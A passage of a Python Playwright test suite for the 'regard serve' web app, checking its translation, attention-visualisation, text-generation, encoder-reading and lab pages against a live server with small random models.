"""The page of `regard serve` in a real browser with a real server."""

import json
import re
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import torch
from PIL import Image

import regard
from regard.config import SpecialIds
from regard.data.tokenizer_training import train_tokenizer
from regard.decoding.attention_maps import Attention
from regard.decoding.text_model import Model
from regard.model.transformer import build
from tests.support.browser import MISSING, chromium, serving
from tests.support.opened_page import LOOK, REFUSED, SENTENCE, Opened
from tests.support.oracles import randomise, small
from tests.support.serving import encoders
from tests.support.text_models import random_model

pytestmark = [pytest.mark.slow, pytest.mark.skipif(bool(MISSING), reason=f"not here: {', '.join(MISSING)}")]

SCORES = {"score": -1.0, "penalised": -0.5}


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    torch.manual_seed(0)
    tokenizer = train_tokenizer(["the cat sleeps on the mat", "a dog sings and the cat sleeps"] * 4, 320)
    folder = tmp_path_factory.mktemp("models")
    for name, layers in (("writer", 2), ("deep", 30)):
        network = build(small(kind="decoder", vocab_size=tokenizer.size, max_length=64, layers=layers)).eval()
        randomise([network])
        Model(network, tokenizer, SpecialIds(end=(tokenizer.end,))).save(folder / name)
    for name, model in encoders().items():
        model.save(folder / name)
    reverse = random_model()
    reverse.about = {"languages": ["en", "fr"]}
    reverse.save(folder / "reverse")
    with serving(["fr-en", "petit-fr-en", *(str(path) for path in sorted(folder.iterdir(), reverse=True))]) as started:
        yield started


@pytest.fixture(scope="module")
def context() -> Iterator[Any]:
    """A browser window. Each test opens tabs of its own."""
    with chromium() as browser:
        yield browser.new_context()


@pytest.fixture(scope="module")
def looked() -> Attention:
    return regard.load("petit-fr-en").attend(SENTENCE)


@pytest.fixture
def opened(context: Any, address: str) -> Iterator[Opened]:
    page = Opened(context, address)
    yield page
    page.close()


def shares(opened: Opened, side: str) -> list[float]:
    texts = opened.page.locator(f".attention-{side} .attention-share").all_text_contents()
    return [float(text.removeprefix("< ").removesuffix("%")) / 100 for text in texts if text]


# Translate.


def test_typed_text_is_translated(opened: Opened) -> None:
    opened.open("#/translate")
    opened.page.locator("#source").press_sequentially(SENTENCE)
    opened.until(lambda: opened.text(".result") == "There are three books on the table.")
    alternatives = opened.page.locator(".alternatives li")
    assert alternatives.count() == 3
    said = [opened.text(".tools .hint"), *alternatives.locator(".score").all_text_contents()]
    assert all(re.fullmatch(r"score −\d+\.\d\d log-prob −\d+\.\d\d", each) for each in said)
    scores = [-float(each.split()[1].removeprefix("−")) for each in said]
    assert scores == sorted(scores, reverse=True)  # the order is that of the figures shown
    opened.until(lambda: f"source={urlencode({'': SENTENCE})[1:]}" in opened.page.url)
    opened.page.get_by_role("link", name="Show its attention").click()
    opened.page.wait_for_selector(".attention-heads button")
    assert opened.page.locator("#attention-source").input_value() == SENTENCE
    assert opened.page.locator(".beam").count() == 1  # it is what Look finds too
    assert opened.text(".translation-note") == ""


def test_swapping_the_languages_translates_back_with_the_model_for_them(opened: Opened) -> None:
    opened.open(f"#/translate?{urlencode({'source': SENTENCE})}", ".alternatives li")
    french_to_english = [opened.text("label[for=source]"), opened.text(".pair h2"), opened.text(".result")]
    assert french_to_english == ["French", "English", "There are three books on the table."]
    swap, model = opened.page.get_by_role("button", name="Swap languages"), opened.page.get_by_label("Model")
    swap.click()
    assert model.input_value() == "reverse"
    assert [opened.text("label[for=source]"), opened.text(".pair h2")] == ["English", "French"]
    assert opened.page.locator("#source").input_value() == french_to_english[-1]
    assert opened.page.locator("#source").get_attribute("lang") == "en"
    assert "She goes to the market." in opened.page.locator(".examples button").all_text_contents()
    opened.until(lambda: opened.text(".result") != "" and opened.page.locator(".result.stale").count() == 0)
    assert opened.focused() == "English"
    assert "model=reverse" in opened.page.url
    translation = opened.text(".result")
    swap.click()
    assert model.input_value() == "fr-en"  # the first model for this direction
    assert opened.page.locator("#source").input_value() == translation
    opened.page.go_back()
    opened.until(lambda: model.input_value() == "reverse" and opened.text(".result") == translation)


def test_text_in_another_language_is_noted(opened: Opened) -> None:
    warning = opened.page.locator(".language-warning")
    opened.open("#/translate?model=fr-en&source=Where+are+you+from%3F", ".language-warning:not(:empty)")
    assert warning.text_content() == (
        "Warning: the text looks like English, but this model translates from French, "
        "so the translation may be nonsense."
    )
    opened.page.locator("#source").fill("D'où viens-tu ?")
    opened.until(lambda: "stale" not in str(warning.get_attribute("class")))
    assert not warning.is_visible()
    assert opened.text(".result")
    opened.look("#/look?model=petit-fr-en&source=Where+are+you+from%3F")
    assert "looks like English" in str(warning.text_content())
    opened.page.locator("#attention-source").fill("Le chat dort.")
    opened.press("Enter")
    opened.until(lambda: opened.page.locator("main .stale").count() == 0 and not warning.is_visible())


def test_languages_are_not_swapped_without_a_model_for_it(opened: Opened, address: str) -> None:
    served = opened.context.request.get(f"{address}api/models").json()
    opened.stub("/api/models", [model for model in served if model["name"] != "reverse"])
    opened.open(f"#/translate?{urlencode({'source': SENTENCE})}", ".alternatives li")
    assert not opened.page.get_by_role("button", name="Swap languages").is_visible()


SEVERAL = "Je mange une pomme. Elle va au marché. Il pleut. Nous avons trois livres."


def test_the_attention_view_shows_the_clicked_translation(opened: Opened) -> None:
    opened.open(f"#/translate?{urlencode({'source': SEVERAL, 'model': 'petit-fr-en'})}", ".alternatives li")
    clicked = opened.text(".result")
    texts = [clicked, *opened.page.locator(".alternative-text").all_text_contents()]
    assert len(set(texts)) == len(texts)
    opened.page.get_by_role("link", name="Show its attention").click()
    opened.page.wait_for_selector(".attention-heads button")
    opened.until(lambda: opened.page.locator("#attention-target").input_value() == clicked)
    written = opened.page.locator(".attention-queries .attention-token > bdi").all_text_contents()
    assert re.sub("[·␣]", "", "".join(written[:-1])) == clicked.replace(" ", "")
    assert "in one piece" in opened.text(".translation-note")
    assert opened.page.locator(".steps").count() == 1
    assert "the translation was given" in opened.text(".no-beam")
    opened.until(lambda: f"target={urlencode({'': clicked})[1:]}" in opened.page.url and "said=" not in opened.page.url)


def test_alternatives_are_distinct(opened: Opened, address: str) -> None:
    for text in (SEVERAL, SEVERAL * 3, "Oui. Non. Oui. Non. Peut-être."):
        asked = {"text": text, "model": "fr-en", "n_best": 8}
        answer = opened.context.request.post(f"{address}api/translate", data=asked).json()
        texts = [each["text"] for each in answer["translations"]]
        ranks = [each["penalised"] for each in answer["translations"]]
        assert len(set(texts)) == len(texts)
        assert ranks == sorted(ranks, reverse=True)


def test_the_translation_can_be_copied(context: Any, address: str) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    opened = Opened(context, address)
    opened.open(f"#/translate?{urlencode({'source': SENTENCE})}")
    opened.page.get_by_role("button", name="Copy").click()
    opened.page.get_by_role("button", name="Copied").wait_for()
    assert opened.page.evaluate("navigator.clipboard.readText()") == opened.text(".result")
    opened.close()
    context.clear_permissions()


def test_an_outdated_response_is_dropped(opened: Opened) -> None:
    held: list[Any] = []

    def answer(route: Any) -> None:
        text = json.loads(route.request.post_data)["text"]
        if text == "un":
            held.append(route)
        else:
            route.fulfill(json={"model": "fr-en", "translations": [{"text": f"<{text}>", **SCORES}]})

    opened.page.route("**/api/translate", answer)
    opened.open("#/translate")
    opened.page.locator("#source").fill("un")
    opened.until(lambda: bool(held))
    opened.page.locator("#source").fill("deux")
    opened.until(lambda: opened.text(".result") == "<deux>")
    held[0].fulfill(json={"model": "fr-en", "translations": [{"text": "late", **SCORES}]})
    opened.page.wait_for_timeout(200)
    assert opened.text(".result") == "<deux>"


def test_typing_cancels_the_previous_request(opened: Opened) -> None:
    """At once, and not only with the next request: otherwise the old response would be shown for the new text."""
    held: dict[str, Any] = {}
    opened.page.route(
        "**/api/translate", lambda route: held.update({json.loads(route.request.post_data)["text"]: route})
    )
    opened.open("#/translate")
    field = opened.page.locator("#source")
    field.fill("un")
    opened.until(lambda: "un" in held)
    field.fill("deux")
    held["un"].fulfill(json={"model": "fr-en", "translations": [{"text": "late", **SCORES}]})
    opened.until(lambda: "deux" in held)
    assert opened.text(".result") == ""
    held["deux"].fulfill(json={"model": "fr-en", "translations": [{"text": "two", **SCORES}]})
    opened.until(lambda: opened.text(".result") == "two")
    field.fill("trois")
    opened.until(lambda: "trois" in held)
    held["trois"].fulfill(status=400, json={"error": "three is too many"})
    opened.until(lambda: "three is too many" in opened.text(".notice"))
    assert opened.text(".result") == ""  # and not the translation of what stood there before
    opened.said = [said for said in opened.said if REFUSED not in said]


WEBKIT = """
const usual = { replaceState: history.replaceState, pushState: history.pushState };
window.changes = 0;
for (const name of Object.keys(usual)) history[name] = function (...given) {
  window.changes += 1;
  if (window.changes > LIMIT) throw new DOMException("more than 100 times in 30 s", "SecurityError");
  return usual[name].apply(this, given);
};
"""


@pytest.mark.parametrize("limit", [100, 0])
def test_browsers_that_limit_url_changes(opened: Opened, limit: int) -> None:
    def answer(route: Any) -> None:
        text = json.loads(route.request.post_data)["text"]
        route.fulfill(json={"model": "fr-en", "translations": [{"text": f"<{text}>", **SCORES}]})

    opened.page.route("**/api/translate", answer)
    opened.page.add_init_script(WEBKIT.replace("LIMIT", str(limit)))
    opened.open("#/translate?source=un")
    text = "Il y a trois livres sur la table. " * 4
    opened.page.locator("#source").fill("")
    opened.page.locator("#source").press_sequentially(text)  # 136 keys
    opened.until(lambda: opened.text(".result") == f"<{text}>")
    if limit:
        opened.until(lambda: urlencode({"source": text}) in opened.page.url)
        assert opened.page.evaluate("window.changes") < 100


# Attention.


def test_hovering_shows_the_weights_of_the_model(opened: Opened, looked: Attention) -> None:
    weights = looked.weights["cross"]
    opened.look()
    layers, heads = weights.shape[:2]
    assert opened.page.locator(".attention-heads button").count() == layers * (heads + 1)
    opened.page.get_by_role("button", name="layer 0, head 3", exact=True).click()
    opened.page.locator(".attention-queries button").nth(4).hover()
    torch.testing.assert_close(torch.tensor(shares(opened, "keys")), weights[0, 3, 4], rtol=0.01, atol=1e-5)
    opened.page.locator(".attention-keys button").nth(2).hover()
    torch.testing.assert_close(torch.tensor(shares(opened, "queries")), weights[0, 3, :, 2], rtol=0.01, atol=1e-5)


def test_the_gold_alignment_is_drawn_on_cross_attention(opened: Opened) -> None:
    opened.look(f"{LOOK}&layer=1&head=2")
    assert "largest weight on the correct token for" in opened.text(".attention-gold")
    pixels = "e => e.toDataURL()"
    canvas = opened.page.locator(".attention-matrix canvas")
    before = canvas.evaluate(pixels)
    opened.page.get_by_label("gold alignment").uncheck()
    assert canvas.evaluate(pixels) != before
    opened.page.get_by_role("radio", name="Encoder").check()
    assert opened.page.locator(".attention-gold").is_hidden()


def test_stepping_through_the_translation(opened: Opened, looked: Attention) -> None:
    opened.look()
    slider = opened.page.get_by_role("slider", name="Decoding step")
    slider.focus()
    opened.press("Home", "ArrowRight")
    written = looked.maps["cross"].writes
    assert opened.text(".step-where") == f"Step 2 of {len(written)}: {written[1]}"
    assert opened.page.locator(".attention-later").count() == len(written) - 2
    assert opened.page.locator(".bar-chosen .bar-token").text_content() == written[1]
    opened.press("Home")
    percents = [each for each in opened.page.locator(".steps .bar-share").all_text_contents() if "<" not in each]
    others = opened.text(".steps .bar-rest").removeprefix("all other tokens: ")
    assert sum(float(each.removesuffix("%").removeprefix("< ")) for each in [*percents, others]) == pytest.approx(
        100, abs=1
    )
    opened.press("ArrowRight")
    opened.until(lambda: "step=2" in opened.page.url)
    opened.page.get_by_role("button", name="Play").click()
    opened.until(lambda: "Step 4" in opened.text(".step-where"))
    opened.page.get_by_role("button", name="Pause").click()


def test_the_beam_is_a_tree_whose_best_path_is_the_translation(opened: Opened, looked: Attention) -> None:
    opened.look()
    best = opened.page.locator(".beam g.beam-best text").all_text_contents()
    written = looked.maps["cross"].writes
    assert [each.lstrip("·") for each in best[1:]] == [*(each.lstrip("·") for each in written[:-1]), "end"]
    kept = opened.page.locator(".beam g").count()
    opened.page.get_by_label("show candidates that were never kept").check()
    assert opened.page.locator(".beam g").count() > kept
    opened.page.locator(".beam g[tabindex='0']").focus()
    opened.press("ArrowRight", "ArrowDown")
    assert "score" in opened.focused()
    assert opened.focused() == opened.text(".beam-readout")


def test_another_model_and_another_target(opened: Opened) -> None:
    opened.look()
    opened.page.get_by_role("radio", name="Encoder").check()
    assert opened.page.locator(".attention-heads button").count() == 2 * 5
    opened.page.get_by_label("Model").select_option("fr-en")
    heads = opened.page.locator(".attention-heads button")
    config = regard.load("fr-en").config
    opened.until(lambda: heads.count() == config.layers * (config.heads + 1))  # the heads and their mean
    assert "model=fr-en" in opened.page.url
    assert opened.page.get_by_role("radio", name="Encoder").is_checked()
    opened.page.get_by_role("radio", name="Cross").check()
    opened.page.get_by_label("Translation", exact=True).fill("A cat.")
    opened.press("Enter")
    opened.until(lambda: opened.page.locator(".beam").count() == 0)  # what was given was not searched for
    assert "reads" in str(opened.page.locator(".attention-queries button").first.get_attribute("aria-label"))
    assert "target=A+cat." in opened.page.url


def test_links_and_navigation_restore_the_view(opened: Opened, context: Any, address: str) -> None:
    opened.look()
    opened.page.get_by_role("radio", name="Decoder").check()
    opened.page.get_by_role("button", name="layer 0, head 1", exact=True).click()
    opened.page.locator(".attention-queries button").nth(2).click()
    opened.until(lambda: "step=3" in opened.page.url and "head=1" in opened.page.url)
    shown = shares(opened, "keys")
    other = Opened(context, address).look(opened.page.url.removeprefix(address))
    other.until(lambda: shares(other, "keys") == shown)
    assert other.page.get_by_role("radio", name="Decoder").is_checked()
    assert other.text(".attention-large h2") == "Layer 0, head 1"
    other.close()
    opened.page.go_back()
    opened.until(lambda: opened.page.get_by_role("radio", name="Cross").is_checked())
    opened.page.go_forward()
    opened.until(lambda: opened.page.get_by_role("radio", name="Decoder").is_checked())


def test_labels_of_word_pieces_and_of_the_start_token(opened: Opened, address: str) -> None:
    asked = {"model": "fr-en", "source": "Le chat noir dort sur le canapé."}
    answer = opened.context.request.post(f"{address}api/attend", data=asked).json()
    written = answer["maps"][2]["writes"]
    assert any(each.startswith("·") for each in written)
    for step in answer["steps"]:
        names = [each["token"] for each in step["top"]]
        assert len(set(names)) == len(names), names  # “I” after a full stop, with a space and without
    opened.look(f"#/look?{urlencode(asked)}")
    best = opened.page.locator(".beam g.beam-best text").all_text_contents()[1:]
    named = [*(each.lstrip("·") for each in written[:-1]), "end"]
    assert [each.lstrip("·") for each in best] == named  # more dots among candidates
    row = opened.page.locator(".attention-queries button").first
    assert row.locator(".attention-token").text_content() == f"start → {written[0]}"
    assert row.get_attribute("title") == f"reads start (<pad>), predicts {written[0]}"
    assert row.get_attribute("aria-label") == f"reads start, predicts {written[0]}"
    opened.page.get_by_role("radio", name="Decoder").check()
    assert opened.text(".attention-keys .attention-token") == "start"
    config = regard.load("fr-en").config
    assert f"{config.layers} + {config.decoder_depth} layers" in opened.text(".about")


@pytest.mark.parametrize("width", [1200, 1280, 1440])
def test_lines_and_matrix_are_side_by_side_and_scrolling_boxes_fade(context: Any, address: str, width: int) -> None:
    opened = Opened(context, address, width)
    opened.look(f"#/look?{urlencode({'model': 'fr-en', 'source': SENTENCE})}")
    lines, matrix = (opened.page.locator(each).bounding_box() for each in (".attention-lines", ".attention-matrix"))
    assert lines["x"] + lines["width"] <= matrix["x"]
    assert abs(lines["y"] - matrix["y"]) < 10
    beam = opened.page.locator(".beam-scroll")
    wider = beam.evaluate("e => e.scrollWidth > e.clientWidth + 1")
    classes = "e => [...e.classList].filter(each => each.startsWith('more-')).join(' ')"
    opened.until(lambda: beam.evaluate(classes) == ("more-right" if wider else ""))
    if wider:
        beam.evaluate("e => { e.scrollLeft = e.scrollWidth }")
        opened.until(lambda: beam.evaluate(classes) == "more-left")
    opened.close()


@pytest.mark.parametrize(("width", "height"), [(1280, 900), (800, 700), (360, 740)])
def test_a_clicked_head_is_visible_for_any_number_of_layers(
    context: Any, address: str, width: int, height: int
) -> None:
    opened = Opened(context, address, width, height)
    opened.look("#/look?model=deep&source=the+cat+sleeps")
    assert opened.page.locator(".attention-heads button").count() == 30 * 5
    for layer in (29, 0, 15):
        opened.page.get_by_role("button", name=f"layer {layer}, head 1", exact=True).click()
        assert opened.text(".attention-large h2") == f"Layer {layer}, head 1"
        box = opened.page.locator(".attention-matrix canvas").bounding_box()
        assert box["y"] >= 0, (layer, box)
        assert box["y"] + box["height"] <= height, (layer, box)
    opened.close()


# Write.


def test_writing_token_by_token(opened: Opened) -> None:
    opened.open(f"#/write?{urlencode({'model': 'writer', 'text': 'the cat'})}", ".bars button")
    opened.until(lambda: opened.page.locator(".bars button").count() == 40)
    assert opened.page.locator(".bar-cut").count() == 0
    opened.page.get_by_label("Top k").focus()
    opened.press(*["ArrowRight"] * 5)
    opened.until(lambda: opened.page.locator(".bar-cut").count() == 35)
    opened.until(lambda: "top_k=5" in opened.page.url)
    field = opened.page.locator("#text")
    opened.page.locator(".bars button").nth(1).click()
    opened.until(lambda: len(field.input_value()) > len("the cat"))
    opened.page.get_by_role("button", name="Undo").click()
    assert field.input_value() == "the cat"
    draw, run, pause = (opened.page.get_by_role("button", name=each) for each in ("Sample", "Run", "Pause"))

    def after(button: Any, enough: Callable[[], bool]) -> bool:
        if button.is_visible():  # once more, if by chance the end of the text was drawn
            button.click()
        return enough()

    opened.until(lambda: after(draw, lambda: field.input_value() != "the cat"))
    opened.until(lambda: after(run, lambda: opened.page.locator(".chip").count() > 5))
    opened.until(lambda: after(pause, run.is_visible))


def test_tokens_of_the_text_and_their_alternatives(opened: Opened) -> None:
    opened.open("#/write?model=writer", ".bars button")
    field = opened.page.locator("#text")
    assert field.input_value() == "Once upon a time, there was a"  # a text to start with
    opened.page.get_by_role("button", name="In a small village").click()
    text = "the cat sleeps"
    field.fill(text)
    chips = opened.page.locator(".write-tokens button.chip")
    opened.until(lambda: chips.count() > 1 and "cat" in "".join(chips.all_text_contents()))
    served = opened.context.request.post(f"{opened.address}api/tokens", data={"model": "writer", "text": text}).json()
    scored = [each for each in served["tokens"] if each["start"] is not None]
    about = f"probability {100 * scored[0]['probability']:.3g}%, rank {scored[0]['rank']}"
    assert about in str(chips.first.get_attribute("aria-label"))
    chips.first.focus()
    opened.press("ArrowRight", "Enter")
    opened.until(lambda: opened.page.locator(".write-alternatives .bars button").count() == 12)
    prefix = text[: scored[1]["start"]]
    asked = {"model": "writer", "text": prefix, "show": 12}
    alternatives = opened.context.request.post(f"{opened.address}api/next", data=asked).json()["tokens"]
    opened.page.locator(".write-alternatives .bars button").nth(2).click()
    opened.until(lambda: field.input_value() == prefix + alternatives[2]["text"])
    opened.page.get_by_role("button", name="Undo").click()
    assert field.input_value() == text


def test_the_effect_of_the_settings_is_drawn(opened: Opened) -> None:
    opened.open("#/write?model=writer&text=the+cat&top_k=4&top_p=0.9", ".writing .chart-series path")
    names = opened.page.locator(".writing .chart-values li").all_text_contents()
    assert [name.rsplit(" ", 1)[0] for name in names] == ["the model’s probabilities", "with your settings", "top p"]
    assert names[1].endswith("100%")  # of all tokens that are kept
    before = opened.page.locator(".writing .chart-series path").nth(1).get_attribute("d")
    opened.page.get_by_label("Temperature").focus()
    opened.press("End")
    opened.until(lambda: opened.page.locator(".writing .chart-series path").nth(1).get_attribute("d") != before)


def test_the_number_of_sampled_tokens_is_shown(opened: Opened) -> None:
    opened.open("#/write?model=writer&text=the+cat&top_k=12", ".bars button")
    opened.until(lambda: "Sampling from 12 tokens." in opened.text(".write-explanation"))
    opened.page.evaluate("hash => { location.hash = hash }", "#/write?model=writer&text=the+cat&top_k=1")
    opened.until(lambda: "Sampling from 1 token." in opened.text(".write-explanation"))
    opened.page.evaluate("hash => { location.hash = hash }", "#/write?model=writer&text=the+cat")
    said = r"Sampling from the 200 most likely tokens, which cover \d\d\.?\d?% of the probability\."
    opened.until(lambda: bool(re.search(said, opened.text(".write-explanation"))))


def test_nothing_is_sampled_for_an_outdated_text(opened: Opened) -> None:
    """A click waits for the response to the current text; after an error there are no bars."""
    held: list[Any] = []
    opened.page.route("**/api/next", lambda route: held.append(route))
    token = {"id": 5, "text": "!", "token": "!", "end": False, "p": 1.0, "kept_p": 1.0}

    def answer(text: str) -> None:
        opened.until(lambda: bool(held))
        tokens = [{**token, "text": text, "token": text}]
        held.pop().fulfill(json={"model": "writer", "tokens": tokens, "text_tokens": ["the"]})

    opened.open("#/write?model=writer&text=the")
    field, draw = opened.page.locator("#text"), opened.page.get_by_role("button", name="Sample")
    answer(" cat")
    opened.page.wait_for_selector(".bars button")
    field.fill("a dog")
    opened.page.locator(".bars button").first.click()
    draw.click()
    assert field.input_value() == "a dog"
    answer(" barks")
    opened.until(lambda: field.input_value() == "a dog barks")
    opened.until(lambda: bool(held))
    held.pop().fulfill(status=400, json={"error": "too long"})
    opened.until(lambda: "too long" in opened.text(".notice"))
    assert opened.page.locator(".bars button").count() == 0
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_the_end_token_is_not_appended(opened: Opened) -> None:
    end = {"id": 0, "text": "", "token": "</s>", "end": True, "p": 1.0, "kept_p": 1.0}
    opened.stub("/api/next", {"model": "writer", "tokens": [end], "text_tokens": ["the"]})
    opened.open("#/write?model=writer&text=the", ".bars button")
    assert opened.text(".bars button bdi") == "end of text"
    for name in ("Sample", "Most likely", "Run"):
        opened.page.get_by_role("button", name=name).click()
        assert "ends the text here" in opened.text(".write-explanation")
    assert opened.page.locator("#text").input_value() == "the"
    assert opened.page.get_by_role("button", name="Run").is_visible()


def test_without_a_language_model_the_page_says_how_to_get_one(opened: Opened, address: str) -> None:
    models = opened.context.request.get(f"{address}api/models").json()
    opened.stub("/api/models", [each for each in models if not each["writes"]])
    opened.open("#/write")
    assert "This server has no language model" in opened.text("main")
    commands = opened.page.locator("pre").all_text_contents()
    assert len(commands) == 2
    assert all("regard serve" in command for command in commands)


# Read.


def read(opened: Opened, wait: str, **options: str) -> None:
    opened.open(f"#/read?{urlencode(options)}", wait)


def test_classes_of_a_text(opened: Opened) -> None:
    ((best, probability),) = encoders()["classifier"].classify(["Le chat dort."])
    opened.open("#/read")
    opened.page.get_by_label("Model").select_option("classifier")
    assert opened.page.get_by_role("radio").evaluate_all("all => all.map(e => e.value)") == ["classify", "embed"]
    opened.page.get_by_role("radio", name="Classify").check()
    opened.page.locator("#read-text").fill("Le chat dort.")
    opened.until(lambda: opened.page.locator(".reading:not(.stale) .bar-chosen").count() == 1)
    assert opened.text(".bar-chosen .bar-token") == best
    assert float(opened.text(".bar-chosen .bar-share").removesuffix("%")) == pytest.approx(100 * probability, abs=0.06)
    assert opened.page.locator(".bars .bar").count() == 3
    opened.until(lambda: "text=Le+chat+dort." in opened.page.url and "task=classify" in opened.page.url)
    opened.page.locator("#read-text").fill("chat " * 99)
    opened.until(lambda: "this model reads at most 64" in opened.text(".notice"))
    assert opened.page.locator(".bars").count() == 0  # and not the classes of the previous text
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_labels_above_words(opened: Opened) -> None:
    text = "Le petit chat noir dort."
    tagged = encoders()["tagger"].tag(text)
    read(opened, ".tagged ruby", model="tagger", text=text)
    words = opened.page.locator(".tagged ruby")
    assert words.locator("bdi").all_text_contents() == [word.word for word in tagged]
    assert [label.removesuffix("?") for label in words.locator("rt").all_text_contents()] == [w.label for w in tagged]
    above, below = (words.first.locator(part).bounding_box() for part in ("rt", "bdi"))
    assert above["y"] + above["height"] <= below["y"] + 8  # glyphs do not overlap, though their boxes may
    words.first.focus()
    opened.press("ArrowRight", "ArrowRight")
    expected = f"“\u2068{tagged[2].word}\u2069”: {tagged[2].label}, probability "
    assert opened.text(".reading .hint").startswith(expected)
    spans = [{"word": "x", "label": label, "probability": 0.9} for label in ("O", "B-PER", "I-PER", "B-LOC")]
    opened.stub("/api/tag", {"model": "tagger", "results": [spans]})
    opened.page.locator("#read-text").fill("Anna")
    opened.until(lambda: words.count() == 4)
    assert words.evaluate_all("all => all.map(e => e.className)") == ["label-none", "label-1", "label-1", "label-2"]


def test_tokens_for_masks(opened: Opened) -> None:
    text = "Le <mask> dort sur la <mask>."
    fillings = encoders()["masked"].fillings(text, 10)
    read(opened, ".bars button", model="masked", text=text)
    assert opened.page.locator(".reading h3").all_text_contents() == ["Mask 1", "Mask 2"]
    assert opened.page.locator(".bars button").count() == 20
    opened.page.locator(".bars button").nth(10).focus()
    opened.press("ArrowDown", "Enter")
    field = opened.page.locator("#read-text")
    opened.until(lambda: field.input_value() == f"Le <mask> dort sur la {fillings[1][1].token.strip()}.")
    opened.until(lambda: opened.page.locator(".bars button").count() == 10)
    field.fill("Le chat ")
    opened.until(lambda: "Write <mask> in place of a word" in opened.text(".reading"))
    opened.page.get_by_role("button", name="Insert <mask>").click()
    assert field.input_value() == "Le chat <mask>"
    opened.until(lambda: opened.page.locator(".bars button").count() == 10)


def test_filling_all_masks(opened: Opened) -> None:
    text = "Le <mask> dort sur la <mask>."
    (first, *_), (second, *_) = encoders()["masked"].fillings(text, 10)
    filled = f"Le {first.token.strip()} dort sur la {second.token.strip()}."
    read(opened, ".read-filled", model="masked", text=text)
    assert opened.text(".read-filled") == filled
    opened.page.get_by_role("button", name="Fill all masks").click()
    opened.until(lambda: opened.page.locator("#read-text").input_value() == filled)
    read(opened, ".read-filled", model="masked", text="Le chat <mask>.")
    assert opened.text(".read-filled") == encoders()["masked"].fillings("Le chat <mask>.", 10)[0][0].text
    opened.page.get_by_role("link", name="Show its layers").click()
    opened.page.wait_for_selector(".layers-box circle")


def test_neighbours_of_a_sentence(opened: Opened) -> None:
    sentences = ["Le chat dort.", "Où est la gare ?", "Le petit chat dort."]
    read(opened, ".neighbours li", model="petit-fr-en", text="Le chat dort.", others="\n".join(sentences))
    vectors = regard.load("petit-fr-en").embed(sentences)
    cosines = torch.cosine_similarity(vectors[:1], vectors).tolist()
    ranked = sorted(zip(cosines, sentences, strict=True), reverse=True)
    items = opened.page.locator(".neighbours li")
    assert items.locator(".alternative-text").all_text_contents() == [sentence for _, sentence in ranked]
    assert items.locator(".score").all_text_contents() == [f"{cosine:.2f}" for cosine, _ in ranked]
    assert opened.page.locator("fieldset").is_hidden()  # a translator has no other task here
    assert opened.page.locator(".sentence-map circle").count() == 4
    first, same = (opened.page.locator(".sentence-map g").nth(i).get_attribute("transform") for i in (0, 1))
    assert first == same  # the same sentence is at the same place
    opened.open("#/read", ".neighbours li")  # with examples
    assert opened.page.locator(".neighbours li").count() == 4
    assert opened.page.locator("#read-text").input_value() == "Le petit chat noir dort sur la table."


def test_a_server_of_encoders_opens_the_read_view(opened: Opened, address: str) -> None:
    models = opened.context.request.get(f"{address}api/models").json()
    opened.stub("/api/models", [each for each in models if each["name"] in ("tagger", "masked")])
    opened.open()
    assert opened.text("h1") == "Read"
    opened.page.get_by_role("link", name="Translate").click()
    opened.until(lambda: "no translation model" in opened.text("main"))
    opened.page.get_by_role("link", name="Regard").click()
    opened.until(lambda: opened.text("h1") == "Read")


def test_payloads_in_readings_stay_text(opened: Opened) -> None:
    words = [{"word": each, "label": each, "probability": 0.5} for each in PAYLOADS]
    opened.stub("/api/tag", {"model": "tagger", "results": [words]})
    read(opened, ".tagged ruby", model="tagger", text="a")
    assert opened.page.locator(".tagged rt").all_text_contents() == PAYLOADS
    harmless(opened, "tag")
    classes = [{"label": each, "probability": 0.02} for each in PAYLOADS]
    opened.stub("/api/classify", {"model": "classifier", "results": [classes]})
    read(opened, ".bars .bar", model="classifier", text="a")
    assert opened.text(".bar-rest") == "all other classes: 76%"
    harmless(opened, "classify")


# Labs.


def test_reading_a_lab(opened: Opened) -> None:
    opened.open("#/labs", ".lab h2")
    assert opened.page.locator(".lab-list a").count() >= 15
    opened.page.get_by_role("link", name="Does cross-attention find the source of each word?").click()
    opened.until(lambda: opened.text(".lab h2") == "Does cross-attention find the source of each word?")
    assert opened.page.url.endswith("#/labs/align")
    opened.until(lambda: opened.page.evaluate("document.querySelector('.lab img').naturalWidth") > 300)
    assert opened.page.locator(".lab table").count() == 2
    assert opened.page.locator(".claims li").count() == 3
    opened.page.go_back()
    opened.until(lambda: opened.page.url.endswith("#/labs"))


def test_labs_with_sliders(opened: Opened) -> None:
    opened.open("#/labs/schedule?warmup=1000", ".lab-try .chart-series path")
    assert "(width · warm-up)^−½ = 1.40e−3 at step 1,000" in opened.text(".lab-summary")  # the link restores the slider
    slider = opened.page.get_by_role("slider", name="Warm-up")
    before = opened.page.locator(".lab-try .chart-series path").last.get_attribute("d")
    slider.focus()
    opened.press("Home")
    assert "at step 0" in opened.text(".lab-summary")
    assert opened.page.locator(".lab-try .chart-series path").last.get_attribute("d") != before
    opened.until(lambda: "warmup=0" in opened.page.url)
    for name in ("scaling", "copy", "average", "one-head", "two-heads", "positions"):
        opened.open(f"#/labs/{name}", ".lab-try .chart-series path")
        opened.page.get_by_role("slider").first.focus()
        text = opened.text(".lab-summary")
        opened.press("End")
        opened.until(lambda text=text: opened.text(".lab-summary") != text)  # type: ignore[misc]
        assert "NaN" not in opened.text(".lab-try")
    assert opened.page.locator(".lab-picture canvas").count() == 1


def test_labs_at_a_medium_width(context: Any, address: str) -> None:
    """Tables fit their box, command options do not break, and the current lab is visible in the list."""
    opened = Opened(context, address, 1200, 700)
    names = [each["name"] for each in opened.context.request.get(f"{address}api/labs").json()]
    opened.open(f"#/labs/{names[-1]}", ".lab h2")
    current = """(() => {
      const [list, link] = [".lab-pair nav", ".lab-list [aria-current]"].map(
        each => document.querySelector(each).getBoundingClientRect());
      return link.top > list.top - 1 && link.bottom < list.bottom + 1;
    })()"""
    opened.until(lambda: bool(opened.page.evaluate(current)))
    for name in names:
        opened.page.evaluate("hash => { location.hash = hash }", f"#/labs/{name}")
        opened.page.locator(".lab-list [aria-current]", has_text=f"{name} ·").wait_for()
        beyond = """[...document.querySelectorAll(".lab > *, .lab .table")].filter(
